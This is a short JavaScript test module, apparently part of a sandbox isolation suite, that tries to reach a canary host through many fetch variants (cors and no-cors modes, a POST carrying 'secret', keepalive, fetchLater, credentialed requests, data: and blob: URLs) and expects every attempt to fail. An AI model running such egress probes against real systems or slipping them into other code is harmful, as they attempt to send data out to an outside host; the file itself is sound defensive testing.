// fetch reaches nobody, in whatever mode, nor by data: and blob: URLs.
// ends: answered
import { reached } from "../reached.js";

export default function hostile({ canary }) {
  const url = `http://${canary}/fetch`;
  const modes = ["cors", "no-cors", "same-origin"].map((mode) => [mode, () => fetch(`${url}/${mode}`, { mode })]);
  return reached({
    ...Object.fromEntries(modes),
    post: () => fetch(`${url}/post`, { method: "POST", mode: "no-cors", body: "secret" }),
    keepalive: () => fetch(`${url}/keepalive`, { keepalive: true, mode: "no-cors" }),
    https: () => fetch(`https://${canary}/https`, { mode: "no-cors" }),
    later: () => fetchLater(`${url}/later`, { activateAfter: 0 }),
    request: () => fetch(new Request(`${url}/request`, { credentials: "include", mode: "no-cors" })),
    data: () => fetch("data:text/plain,secret"),
    blob: () => fetch(URL.createObjectURL(new Blob(["secret"]))),
  });
}
